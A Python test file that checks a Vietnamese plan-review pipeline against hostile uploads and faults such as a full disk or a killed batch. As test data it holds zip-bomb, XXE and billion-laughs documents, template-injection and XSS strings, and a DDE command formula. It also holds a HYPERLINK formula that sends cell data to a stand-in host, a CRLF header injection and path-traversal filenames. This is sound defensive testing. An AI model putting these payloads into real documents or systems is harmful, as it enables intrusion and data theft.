"""Hostile and broken input, and faults: nothing crashes, nothing is lost, nothing leaks.

Plans come from the public. Each hostile case below is reviewed through the real command line in
one batch alongside two good plans: the cases no reader can accept in one batch (exit status 1,
each listed in batch.json with a Vietnamese reason naming the file), the harmless ones in
another (exit status 0, every plan reviewed). Around every run: no traceback on the console,
the good plans reviewed, time and peak memory (psutil, the whole process tree) within the bounds
of docs/LIMITS.md, no file written outside the output folder (the temporary folder, the working
folder, HOME and the input folder are snapshotted), the inputs byte-identical afterwards.
Then the faults: a full disk, SIGKILL mid-batch, two batches on one output folder.
The SMTP connection dropped mid-DATA is tested by tests/test_delivery.py.
"""

from __future__ import annotations

import email
import hashlib
import json
import os
import shutil
import signal
import subprocess
import sys
import threading
import time
import unicodedata
import zipfile
from dataclasses import dataclass, field
from email.policy import default as default_policy
from pathlib import Path

import psutil
import pytest
from openpyxl import load_workbook

from pipeline.settings import Settings
from tests import hostile as h
from tests.conftest import CLI, ROOT

SETTINGS = Settings()
DEFAULTS = Settings.model_construct()  # the documented defaults, whatever the environment says
GOOD = {"tốt 1.docx": h.GOOD_DOCX, "tốt 2.docx": h.GOOD_DOCX_2}
TEMPLATE_PRODUCER = "{{ 7*7 }} Hợp tác xã Sim Xanh {{ 1111*1111 }}"
EVALUATED = "1234321"  # 1111*1111: must appear nowhere
SCRIPT = "<script>alert('xss')</script>"
FORMULA_PRODUCER = '=HYPERLINK("http://ke-xau.example/?q="&A1;"Bấm vào đây") Hợp tác xã'
FORMULA_PRODUCT = "+cmd|' /C calc'!A0 Rượu nếp sim"
CRLF_EMAIL = "a@b.vn\r\nBcc: x@y.vn"
LONG_NAME = "Hợp tác xã " + "Nông nghiệp Sim Xanh Thạch Xuân " * 160  # about 5,000 characters


# ---------------------------------------------------------------- running and watching

@dataclass
class Run:
    returncode: int
    stdout: str
    stderr: str
    wall_s: float
    peak_tree_mb: float  # sum over the process tree, sampled
    peak_proc_mb: float  # the largest single process
    pids: set[int] = field(default_factory=set)


def _sampler(pid: int, peaks: dict, stop: threading.Event) -> None:
    try:
        root = psutil.Process(pid)
    except psutil.Error:
        return
    while not stop.is_set():
        try:
            procs = [root, *root.children(recursive=True)]
        except psutil.Error:
            break
        total = 0
        for q in procs:
            try:
                rss = q.memory_info().rss
            except psutil.Error:
                continue
            peaks["pids"].add(q.pid)
            total += rss
            peaks["proc"] = max(peaks["proc"], rss)
        peaks["tree"] = max(peaks["tree"], total)
        stop.wait(0.05)


def start(args: list[str], env: dict[str, str], cwd: Path) -> subprocess.Popen:
    return subprocess.Popen([*CLI, *args], cwd=cwd, env=env, stdout=subprocess.PIPE,
                            stderr=subprocess.PIPE, text=True)


def run_watched(args: list[str], env: dict[str, str], cwd: Path, timeout: float = 600) -> Run:
    t0 = time.monotonic()
    p = start(args, env, cwd)
    peaks: dict = {"tree": 0, "proc": 0, "pids": set()}
    stop = threading.Event()
    th = threading.Thread(target=_sampler, args=(p.pid, peaks, stop), daemon=True)
    th.start()
    try:
        out, err = p.communicate(timeout=timeout)
    finally:
        stop.set()
        th.join()
    return Run(p.returncode, out, err, time.monotonic() - t0, peaks["tree"] / 2**20,
               peaks["proc"] / 2**20, peaks["pids"])


@dataclass
class Sandbox:
    """A run's world: inputs, output, and the places nothing should be written to."""

    root: Path

    def __post_init__(self) -> None:
        for d in (self.inp, self.tmp, self.home, self.cwd):
            d.mkdir(parents=True, exist_ok=True)

    inp = property(lambda self: self.root / "nộp bài")
    out = property(lambda self: self.root / "kết quả")
    tmp = property(lambda self: self.root / "tmp")
    home = property(lambda self: self.root / "home")
    cwd = property(lambda self: self.root / "cwd")

    def env(self, **extra: str) -> dict[str, str]:
        env = {k: v for k, v in os.environ.items() if not k.startswith("OCOP_")}
        env.update(TMPDIR=str(self.tmp), HOME=str(self.home), PYTHONDONTWRITEBYTECODE="1",
                   PYTHONPATH=str(ROOT), **extra)
        return env

    def snapshot(self) -> dict[str, tuple[int, int, str]]:
        """Every file outside the output folder: (size, mtime, sha256)."""
        snap = {}
        for p in sorted(self.root.rglob("*")):
            if p.is_relative_to(self.out) or not p.is_file() or p.is_symlink():
                continue
            st = p.stat()
            snap[str(p.relative_to(self.root))] = (st.st_size, st.st_mtime_ns, _sha(p))
        return snap


def _sha(p: Path) -> str:
    d = hashlib.sha256()
    with open(p, "rb") as f:
        for chunk in iter(lambda: f.read(1 << 20), b""):
            d.update(chunk)
    return d.hexdigest()


def _check_run(sb: Sandbox, run: Run, before: dict) -> None:
    """What holds after every batch, whatever its inputs."""
    for stream in (run.stdout, run.stderr):
        assert "Traceback" not in stream, stream[-3000:]
    assert sb.snapshot() == before, "a file outside the output folder was written or changed"
    assert not any(sb.tmp.iterdir()), list(sb.tmp.iterdir())
    assert not any(sb.home.iterdir()) and not any(sb.cwd.iterdir())
    leftovers = [p for p in sb.out.rglob("*") if p.name.startswith(".tmp-") or p.name.endswith(".tmp")]
    assert not leftovers, leftovers
    # bounds (docs/LIMITS.md): each reading process within its address-space limit, the whole
    # tree within what the workers may hold at once
    assert run.peak_proc_mb < DEFAULTS.max_memory_mb, run
    assert run.peak_tree_mb < 2500, run
    print(f"\nbatch: {run.wall_s:.1f} s, peak RSS {run.peak_tree_mb:.0f} MB (tree), "
          f"{run.peak_proc_mb:.0f} MB (largest process)")


def _batch(sb: Sandbox) -> dict:
    return json.loads((sb.out / "batch.json").read_text(encoding="utf-8"))


def _docx_text(p: Path) -> str:
    with zipfile.ZipFile(p) as z:
        return "".join(z.read(n).decode("utf-8", "replace") for n in z.namelist() if n.endswith(".xml"))


def _add_good(sb: Sandbox) -> None:
    for name, src in GOOD.items():
        shutil.copyfile(src, sb.inp / name)


# ---------------------------------------------------------------- the unreadable

UNREADABLE: dict[str, tuple] = {
    # name: (generator, acceptable codes; None = reviewed or refused, both fine)
    "rỗng.docx": (h.empty, {"empty"}),
    "ngẫu nhiên.docx": (h.random_bytes, {"unsupported"}),
    "ngẫu nhiên.pdf": (lambda p: h.random_bytes(p, seed=2), {"unsupported"}),
    "cắt cụt.docx": (lambda p: h.truncated(h.GOOD_DOCX, p), {"corrupt-docx"}),
    "cắt cụt.pdf": (lambda p: h.truncated(h.GOOD_PDF, p, 0.33), {"corrupt-pdf"}),
    "thật ra là trang web.docx": (h.html_as_docx, {"unsupported"}),
    "thật ra là bảng tính.docx": (h.xlsx_as_docx, {"unsupported"}),
    "mật khẩu.pdf": (h.encrypted_pdf, {"encrypted"}),
    "mật khẩu.docx": (h.encrypted_docx, {"encrypted"}),
    "bom nén 2 GB.docx": (h.zip_bomb_docx, {"zip-bomb"}),
    "bom nén khai gian kích thước.docx": (h.zip_bomb_lying_docx, {"corrupt-docx"}),
    "tỷ tiếng cười document.docx": (h.billion_laughs_docx, {"hostile-xml"}),
    "tỷ tiếng cười styles.docx": (lambda p: h.billion_laughs_docx(p, "word/styles.xml"), {"hostile-xml"}),
    "tỷ tiếng cười numbering.docx": (lambda p: h.billion_laughs_docx(p, "word/numbering.xml"),
                                     {"hostile-xml"}),
    "xxe document.docx": (h.xxe_docx, {"hostile-xml"}),
    "xxe styles.docx": (lambda p: h.xxe_docx(p, "word/styles.xml"), {"hostile-xml"}),
    "xxe numbering.docx": (lambda p: h.xxe_docx(p, "word/numbering.xml"), {"hostile-xml"}),
    "xxe content types.docx": (h.doctype_only_docx, {"hostile-xml"}),
    "xxe utf-16.docx": (h.utf16_doctype_docx, {"hostile-xml"}),
    "500 trang.pdf": (h.many_pages_pdf, {"too-many-pages"}),
    "bảng lồng 60 cấp.docx": (lambda p: h.nested_tables_docx(p, 60), {"too-complex"}),
    "10000 chữ tí hon.pdf": (h.tiny_text_objects_pdf, None),
}

VIETNAMESE = set("ăâđêôơưàảãáạằẳẵắặầẩẫấậèẻẽéẹềểễếệìỉĩíịòỏõóọồổỗốộờởỡớợùủũúụừửữứựỳỷỹýỵ")


def _check_failed(batch: dict, expected: dict[str, tuple], sb: Sandbox) -> None:
    failed = {Path(f["source"]).name: f for f in batch["failed"]}
    reviewed = {Path(s).name for s in batch["outputs"]}
    for name, (_make, codes) in expected.items():
        if codes is None and name in reviewed:
            continue
        assert name in failed, (name, reviewed)
        f = failed[name]
        if codes is not None:
            assert f["code"] in codes, (name, f)
        assert str(sb.inp / name) in f["reason"], f  # names the file, as given
        assert VIETNAMESE & set(f["reason"].lower()), f
        assert "Traceback" not in f["reason"] and "Error:" not in f["reason"], f
    for name in GOOD:
        assert name in reviewed, (name, batch["failed"])


def test_unreadable_files_are_reported_and_the_batch_goes_on(tmp_path):
    sb = Sandbox(tmp_path)
    for name, (make, _codes) in UNREADABLE.items():
        make(sb.inp / name)
    _add_good(sb)
    before = sb.snapshot()
    run = run_watched(["review", str(sb.inp), "--out", str(sb.out)], sb.env(), sb.cwd)
    assert run.returncode == 1, run.stderr[-3000:]
    _check_run(sb, run, before)
    batch = _batch(sb)
    _check_failed(batch, UNREADABLE, sb)
    for f in batch["failed"]:
        assert f"LỖI: {f['reason']}" in run.stderr
    # nothing of /etc/passwd, nor an expanded entity, anywhere in the outputs
    for p in sb.out.rglob("*"):
        if p.is_file() and p.suffix in {".json", ".docx", ".xlsx"}:
            data = p.read_bytes() if p.suffix == ".json" else _docx_text(p).encode()
            assert b"root:x:0:0" not in data and b"lollollol" not in data, p
    # the spreadsheet lists every plan, the unreadable ones with their reason
    ws = load_workbook(sb.out / "batch.xlsx").active
    rows = {Path(r[0]).name: r for r in ws.iter_rows(min_row=2, values_only=True)}
    assert set(rows) == set(UNREADABLE) | set(GOOD)
    assert rows["rỗng.docx"][12].startswith("Tệp ") and "rỗng" in rows["rỗng.docx"][12]
    assert sb.out.joinpath("tốt 1.feedback.docx").is_file()


def test_a_member_lying_about_its_size_is_refused_from_its_headers(tmp_path):
    """The lying bomb of the batch above, refused by check_zip before anything inflates it."""
    from pipeline.errors import ReadError
    from pipeline.ingest.docx_reader import check_zip

    p = h.zip_bomb_lying_docx(tmp_path / "nói dối.docx", inflated_mb=64)
    with pytest.raises(ReadError) as e:
        check_zip(p, DEFAULTS)
    assert e.value.code == "corrupt-docx" and "khai báo sai kích thước" in str(e.value), e.value


def test_no_read_inflates_far_past_a_declared_size(tmp_path):
    """A lie the headers cannot show (64 MB of zeros compress to 64 KB, declared as 1 MB): reading
    the member the way python-docx does (ZipFile.read) stops within 1 MB of the declared size
    instead of inflating the whole stream first."""
    import tracemalloc
    import zlib

    import pipeline.ingest.docx_reader  # noqa: F401  (bounds zipfile's reads)

    mb = b"\0" * (1 << 20)
    c = zlib.compressobj(9, zlib.DEFLATED, -15)
    block = c.compress(mb) + c.flush(zlib.Z_FULL_FLUSH)
    payload = block * 64 + c.flush(zlib.Z_FINISH)
    path = tmp_path / "nói dối khéo.docx"
    path.write_bytes(h._raw_zip([("word/media/image9.png", payload, 8, zlib.crc32(mb), len(payload),
                                  1 << 20)]))
    tracemalloc.start()
    try:
        with zipfile.ZipFile(path) as z:
            data = z.read("word/media/image9.png")
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    assert data == mb
    assert peak < 8 << 20, f"{peak / 2**20:.0f} MB to read a member declared as 1 MB"


# ---------------------------------------------------------------- the harmless

def _harmless(sb: Sandbox) -> list[str]:
    """Plans that must be reviewed like any other; returns extra command-line paths."""
    _add_good(sb)
    h.copy(h.GOOD_DOCX_2, sb.inp / "..\\..\\thoát ra ngoài.docx")  # a Windows-style traversal
    vn = "Phương án Rượu nếp sim – HTX Thạch Xuân.docx"
    h.copy(h.GOOD_DOCX, sb.inp / unicodedata.normalize("NFC", vn))
    h.copy(h.GOOD_DOCX_2, sb.inp / unicodedata.normalize("NFD", vn))  # the same name as macOS writes it
    for d in ("xã A", "xã B"):
        (sb.inp / d).mkdir()
        h.copy(h.GOOD_DOCX, sb.inp / d / "phuong_an.docx")
    h.copy(h.PLANS / "s04_mat_ong_htx.doc", sb.inp / "-rf --help.doc")  # reaches LibreOffice
    h.edit_plan_docx(sb.inp / "mẫu lệnh {{ 7*7 }}.docx",
                     replace={"Hợp tác xã Nông nghiệp Sim Xanh Thạch Xuân": TEMPLATE_PRODUCER,
                              "Rượu nếp sim Thạch Xuân": f"Rượu nếp sim {SCRIPT}"},
                     append=["{% for x in range(10**9) %}x{% endfor %} {{ config }} {%p if 1 %}",
                             f"<img src=x onerror=alert(1)> {SCRIPT} <b>đậm</b> &amp; &lt;",
                             "Doanh thu {{ 1111*1111 }} triệu đồng mỗi năm."])
    h.edit_plan_docx(sb.inp / "công thức.docx",
                     replace={"Hợp tác xã Nông nghiệp Sim Xanh Thạch Xuân": FORMULA_PRODUCER,
                              "Rượu nếp sim Thạch Xuân": FORMULA_PRODUCT,
                              "htxsimxanh.thachxuan@gmail.com": CRLF_EMAIL},
                     append=["@SUM(1+1)*cmd|' /C calc'!A0", "-2+3", "\tbắt đầu bằng tab"])
    h.edit_plan_docx(sb.inp / "tên dài.docx",
                     replace={"Hợp tác xã Nông nghiệp Sim Xanh Thạch Xuân": LONG_NAME})
    h.nested_tables_docx(sb.inp / "bảng lồng 5 cấp.docx", 5)
    h.big_image_docx(sb.inp / "ảnh 50 MB.docx", 50)  # zeros: 100 KB on disk, 50 MB inflated
    outside = sb.root / "ngoài"
    outside.mkdir()
    h.copy(h.GOOD_DOCX_2, outside / "nộp lẻ.docx")
    return [str(sb.inp / ".." / "ngoài" / "nộp lẻ.docx")]


def test_harmless_oddities_are_reviewed_and_stay_data(tmp_path):
    sb = Sandbox(tmp_path)
    extra = _harmless(sb)
    n_inputs = sum(1 for p in sb.inp.rglob("*") if p.is_file()) + len(extra)
    before = sb.snapshot()
    run = run_watched(["review", str(sb.inp), *extra, "--out", str(sb.out)], sb.env(), sb.cwd)
    assert run.returncode == 0, run.stderr[-3000:]
    _check_run(sb, run, before)
    batch = _batch(sb)
    assert batch["failed"] == [] and batch["reviewed"] == n_inputs
    stems = list(batch["outputs"].values())
    assert len(set(stems)) == n_inputs  # same stem in two folders, NFC/NFD twins: no overwrite
    for stem in stems:
        assert "/" not in stem and "\\" not in stem and ".." not in stem and stem == stem.strip()
        assert (sb.out / f"{stem}.review.json").is_file() and (sb.out / f"{stem}.feedback.docx").is_file()
    assert {p.name for p in sb.out.iterdir()} >= {"batch.json", "batch.xlsx"}
    assert not (sb.root / "thoát ra ngoài.feedback.docx").exists()

    reviews = {stem: json.loads((sb.out / f"{stem}.review.json").read_text(encoding="utf-8"))
               for stem in stems}
    by_source = {Path(s).name: reviews[stem] for s, stem in batch["outputs"].items()}
    templ = by_source["mẫu lệnh {{ 7*7 }}.docx"]
    assert "{{ 7*7 }}" in (templ["producer"]["name"] or ""), templ["producer"]
    formula = by_source["công thức.docx"]
    assert formula["producer"]["name"].lower().startswith("=hyperlink"), formula["producer"]
    assert "\r" not in (formula["producer"]["email"] or "") and "\n" not in (formula["producer"]["email"] or "")
    assert len(by_source["tên dài.docx"]["producer"]["name"] or "") <= 200

    # template syntax is printed, never run; HTML stays text
    for stem in stems:
        text = _docx_text(sb.out / f"{stem}.feedback.docx")
        assert EVALUATED not in text
        assert "<script" not in text
    letter = _docx_text(sb.out / f"{batch['outputs'][str(sb.inp / 'mẫu lệnh {{ 7*7 }}.docx')]}.feedback.docx")
    assert "{{ 7*7 }}" in letter

    # the spreadsheet: formulas are text
    _check_spreadsheet(sb.out / "batch.xlsx", n_inputs)

    # e-mail: approve all, send to .eml files; no header injected, no template run, no markup
    env = sb.env()
    approve = subprocess.run([*CLI, "approve", str(sb.out), "--by", "Kiểm thử"], cwd=sb.cwd, env=env,
                             capture_output=True, text=True, timeout=300)
    assert "Traceback" not in approve.stderr, approve.stderr
    send = subprocess.run([*CLI, "send", str(sb.out)], cwd=sb.cwd, env=env, capture_output=True,
                          text=True, timeout=300)
    assert "Traceback" not in send.stderr, send.stderr
    emls = sorted((sb.out / "outbox").glob("*.eml"))
    assert emls, (approve.stdout, approve.stderr, send.stdout, send.stderr)
    printed = False  # the template producer's letter went out with its name as written
    for p in emls:
        raw = p.read_bytes()
        assert b"\nBcc:" not in raw and b"\nbcc:" not in raw.lower()
        msg = email.message_from_bytes(raw, policy=default_policy)
        assert msg["Bcc"] is None and len(msg["To"].addresses) == 1
        assert "x@y.vn" not in str(msg["To"])
        for part in msg.walk():
            if part.get_content_maintype() == "text":
                body = part.get_content()
                assert EVALUATED not in body
                printed |= "{{ 7*7 }}" in body
                if part.get_content_subtype() == "html":
                    assert "<script" not in body.lower() and "<img" not in body.lower()
    assert printed
    assert not any(sb.tmp.iterdir()) and not any(sb.cwd.iterdir())


def _check_spreadsheet(path: Path, n_rows: int) -> None:
    with zipfile.ZipFile(path) as z:
        sheet = z.read("xl/worksheets/sheet1.xml").decode("utf-8")
    assert "<f>" not in sheet and "<f " not in sheet  # no formula anywhere
    ws = load_workbook(path).active
    rows = list(ws.iter_rows(min_row=2))
    assert len(rows) == n_rows
    seen_formula = False
    for row in rows:
        for cell in row:
            if isinstance(cell.value, str):
                assert cell.data_type == "s"
                assert not cell.value.startswith(("=", "+", "-", "@", "\t", "\r")), cell.value
                seen_formula |= cell.value.startswith(("'=", "'+"))
    assert seen_formula  # the hostile producer is there, neutralised


# ---------------------------------------------------------------- slow cases

@pytest.mark.slow
def test_large_noise_image_is_refused_by_size(tmp_path):
    sb = Sandbox(tmp_path)
    cases = {"ảnh 50 MB nhiễu.docx": (lambda p: h.big_image_docx(p, 50, compressible=False),
                                      {"too-large"})}
    for name, (make, _c) in cases.items():
        make(sb.inp / name)
    _add_good(sb)
    before = sb.snapshot()
    run = run_watched(["review", str(sb.inp), "--out", str(sb.out)], sb.env(), sb.cwd)
    assert run.returncode == 1
    _check_run(sb, run, before)
    _check_failed(_batch(sb), cases, sb)


# ---------------------------------------------------------------- faults: a full disk

def _mount_tmpfs(where: Path, size: str) -> bool:
    if os.geteuid() != 0 or not shutil.which("mount"):
        return False
    where.mkdir(parents=True, exist_ok=True)
    r = subprocess.run(["mount", "-t", "tmpfs", "-o", f"size={size},mode=0755", "tmpfs", str(where)],
                       capture_output=True)
    return r.returncode == 0


def _umount(where: Path) -> None:
    subprocess.run(["umount", "-l", str(where)], capture_output=True)


def _limit_file_size(limit: int):
    def apply() -> None:
        import resource

        resource.setrlimit(resource.RLIMIT_FSIZE, (limit, limit))  # writes past it: EFBIG

    return apply


@pytest.mark.parametrize("room", ["some", "none"])
def test_disk_full_is_reported_and_loses_nothing(tmp_path, room):
    """Outputs on a tiny tmpfs (else a file-size limit on the run): the plans that do not fit
    are reported, nothing half-written is left, and a rerun with room completes everything."""
    sb = Sandbox(tmp_path)
    _add_good(sb)
    h.copy(h.GOOD_PDF, sb.inp / "tốt 3.pdf")
    before = sb.snapshot()
    size = {"some": "64k", "none": "4k"}[room]
    mounted = _mount_tmpfs(sb.out, size)
    preexec = None if mounted else _limit_file_size({"some": 30_000, "none": 400}[room])
    try:
        p = subprocess.run([*CLI, "review", str(sb.inp), "--out", str(sb.out)], cwd=sb.cwd,
                           env=sb.env(), capture_output=True, text=True, timeout=600,
                           preexec_fn=preexec)
        assert p.returncode == 1, (p.stdout, p.stderr)
        assert "Traceback" not in p.stderr + p.stdout, p.stderr
        leftovers = [x.name for x in sb.out.iterdir() if x.name.startswith(".tmp-") or x.name.endswith(".tmp")]
        assert not leftovers
        for x in sb.out.glob("*.review.json"):  # a review is there only with its letter, both whole
            json.loads(x.read_text(encoding="utf-8"))
            docx_path = x.with_name(x.name.replace(".review.json", ".feedback.docx"))
            assert zipfile.ZipFile(docx_path).testzip() is None
        if (sb.out / "batch.json").exists():
            batch = _batch(sb)
            written = set(batch["outputs"])
            failed = {f["source"]: f for f in batch["failed"]}
            assert failed, batch
            assert written | set(failed) == {str(sb.inp / n) for n in [*GOOD, "tốt 3.pdf"]}
            for f in failed.values():
                assert f["code"] == "write-failed", f
                assert "ổ đĩa đã đầy" in f["reason"] or "giới hạn kích thước" in f["reason"], f
        else:
            assert "LỖI: Không ghi được" in p.stderr and "batch.json" in p.stderr, p.stderr
    finally:
        if mounted:
            # copy what was written, then give the folder its room back
            keep = tmp_path / "giữ"
            shutil.copytree(sb.out, keep)
            _umount(sb.out)
            shutil.rmtree(sb.out, ignore_errors=True)
            shutil.copytree(keep, sb.out)
            shutil.rmtree(keep)
    again = subprocess.run([*CLI, "review", str(sb.inp), "--out", str(sb.out)], cwd=sb.cwd,
                           env=sb.env(), capture_output=True, text=True, timeout=600)
    assert again.returncode == 0, again.stderr
    batch = _batch(sb)
    assert batch["reviewed"] + batch["skipped"] == 3 and not batch["failed"]
    assert sb.snapshot() == before


# ---------------------------------------------------------------- faults: SIGKILL

def _alive(pids: set[int]) -> set[int]:
    out = set()
    for pid in pids:
        try:
            if psutil.Process(pid).status() != psutil.STATUS_ZOMBIE:
                out.add(pid)
        except psutil.Error:
            pass
    return out


@pytest.mark.parametrize("when", ["reading", "writing"])
def test_sigkill_mid_batch_then_rerun_completes(tmp_path, when):
    sb = Sandbox(tmp_path)
    _add_good(sb)
    h.copy(h.GOOD_PDF, sb.inp / "tốt 3.pdf")
    h.copy(h.PLANS / "s04_mat_ong_htx.doc", sb.inp / "tốt 4.doc")
    h.copy(h.PLANS / "s10_dau_lac_htx.docx", sb.inp / "tốt 5.docx")
    before = sb.snapshot()
    p = start(["review", str(sb.inp), "--out", str(sb.out)], sb.env(), sb.cwd)
    family: set[int] = set()
    deadline = time.monotonic() + 300
    try:
        while time.monotonic() < deadline and p.poll() is None:
            try:
                family |= {c.pid for c in psutil.Process(p.pid).children(recursive=True)}
            except psutil.Error:
                pass
            if when == "reading" and any("soffice" in " ".join(_cmd(pid)) for pid in family):
                break  # LibreOffice converting, other plans being read
            if when == "writing" and any(sb.out.glob("*.feedback.docx")):
                break
            time.sleep(0.02)
        assert p.poll() is None, "the batch ended before it could be killed"
        os.kill(p.pid, signal.SIGKILL)
        p.communicate(timeout=30)
    finally:
        if p.poll() is None:
            p.kill()
    # what the killed batch started dies with it (workers, LibreOffice, Tesseract)
    t = time.monotonic()
    while _alive(family) and time.monotonic() - t < 20:
        time.sleep(0.2)
    assert not _alive(family), [(_cmd(pid)) for pid in _alive(family)]
    again = run_watched(["review", str(sb.inp), "--out", str(sb.out)], sb.env(), sb.cwd)
    assert again.returncode == 0, again.stderr[-2000:]
    batch = _batch(sb)
    assert batch["reviewed"] + batch["skipped"] == 5 and not batch["failed"], batch
    for stem in batch["outputs"].values():
        json.loads((sb.out / f"{stem}.review.json").read_text(encoding="utf-8"))
        assert zipfile.ZipFile(sb.out / f"{stem}.feedback.docx").testzip() is None
    assert not [x for x in sb.out.rglob("*") if x.name.startswith(".tmp-") or x.name.endswith(".tmp")]
    assert sb.snapshot() == before


def _cmd(pid: int) -> list[str]:
    try:
        return psutil.Process(pid).cmdline()
    except psutil.Error:
        return []


# ---------------------------------------------------------------- faults: two batches at once

def test_two_batches_on_one_output_folder(tmp_path):
    """The second waits for the lock up to OCOP_LOCK_TIMEOUT_S, then gives up with exit 2 and a
    Vietnamese message; given time enough, it runs after the first (and finds nothing to redo)."""
    sb = Sandbox(tmp_path)
    _add_good(sb)
    h.copy(h.GOOD_PDF, sb.inp / "tốt 3.pdf")
    h.copy(h.PLANS / "s04_mat_ong_htx.doc", sb.inp / "tốt 4.doc")
    args = ["review", str(sb.inp), "--out", str(sb.out)]
    first = start(args, sb.env(), sb.cwd)
    try:
        t = time.monotonic()
        while not (sb.out / ".ocop-review.lock").exists() and time.monotonic() - t < 60:
            time.sleep(0.02)
        patient = start(args, sb.env(OCOP_LOCK_TIMEOUT_S="600"), sb.cwd)
        t0 = time.monotonic()
        impatient = subprocess.run([*CLI, *args], cwd=sb.cwd, env=sb.env(OCOP_LOCK_TIMEOUT_S="1"),
                                   capture_output=True, text=True, timeout=120)
        waited = time.monotonic() - t0
        assert first.poll() is None, "the first batch was over too soon for this test"
        assert impatient.returncode == 2, impatient.stderr
        assert "đang được một lần chạy khác" in impatient.stderr and "Traceback" not in impatient.stderr
        assert waited < 30
        out1, err1 = first.communicate(timeout=600)
        assert first.returncode == 0, err1
        out2, err2 = patient.communicate(timeout=600)
        assert patient.returncode == 0, err2
        assert "4 không đổi (bỏ qua)" in out2, out2
    finally:
        for proc in ("first", "patient"):
            q = locals().get(proc)
            if q is not None and q.poll() is None:
                q.kill()
    assert _batch(sb)["skipped"] == 4


@pytest.mark.parametrize("limit", ["plan_timeout_s", "max_memory_mb", "max_blocks", "max_chars"])
def test_limits_are_enforced(tmp_path, limit):
    """Each bound lowered in turn: the plan past it is refused with its reason, the good plan
    beside it is read, and nothing the refused plan started is left running."""
    sb = Sandbox(tmp_path)
    shutil.copyfile(h.GOOD_DOCX, sb.inp / "tốt.docx")
    if limit == "plan_timeout_s":  # a scanned plan: OCR takes about a minute
        env, victim, code = {"OCOP_PLAN_TIMEOUT_S": "3"}, "bản scan chậm.pdf", "timeout"
        h.copy(h.PLANS / "s05_cam_bu_trang_trai.pdf", sb.inp / victim)
    elif limit == "max_memory_mb":  # 190 MB inflated: under OCOP_MAX_INFLATED_MB, over the memory
        env, victim, code = {"OCOP_MAX_MEMORY_MB": "300"}, "ảnh 190 MB.docx", "too-large"
        h.big_image_docx(sb.inp / victim, 190)
    else:  # the good plan has about 150 blocks and 20,000 characters
        env = {"OCOP_MAX_BLOCKS": "40"} if limit == "max_blocks" else {"OCOP_MAX_CHARS": "5000"}
        victim, code = "tốt.docx", "too-long"
        h.copy(h.GOOD_DOCX_2, sb.inp / "dài.docx")
    before = sb.snapshot()
    run = run_watched(["extract", str(sb.inp), "--out", str(sb.out)], sb.env(**env), sb.cwd)
    assert run.returncode == 1, run.stderr
    _check_run(sb, run, before)
    batch = _batch(sb)
    failed = {Path(f["source"]).name: f for f in batch["failed"]}
    assert failed[victim]["code"] == code and victim in failed[victim]["reason"], failed
    if limit in ("plan_timeout_s", "max_memory_mb"):
        assert batch["extracted"] == 1 and not failed.keys() - {victim}
    time.sleep(0.5)
    assert not _alive(run.pids), [_cmd(pid) for pid in _alive(run.pids)]


def test_limits_are_documented():
    doc = (ROOT / "docs" / "LIMITS.md").read_text(encoding="utf-8")
    for name in ("max_file_mb", "max_pages", "max_inflated_mb", "max_xml_mb", "max_zip_members",
                 "max_xml_depth", "max_table_nesting", "max_blocks", "max_chars", "plan_timeout_s",
                 "max_memory_mb", "convert_timeout_s", "convert_memory_mb", "workers", "lock_timeout_s"):
        assert f"OCOP_{name.upper()}" in doc, name
        assert name in Settings.model_fields, name


def test_delivery_fault_tests_exist():
    """The SMTP connection dropped mid-DATA is the delivery tests' business; make sure it stays."""
    text = (ROOT / "tests" / "test_delivery.py").read_text(encoding="utf-8")
    assert "def test_connection_dropped_at_data_is_retried_without_duplicates" in text
    assert "def test_connection_dropped_after_the_message_arrived_bounds_resends" in text


if __name__ == "__main__":  # pragma: no cover
    sys.exit(pytest.main([__file__, "-q"]))
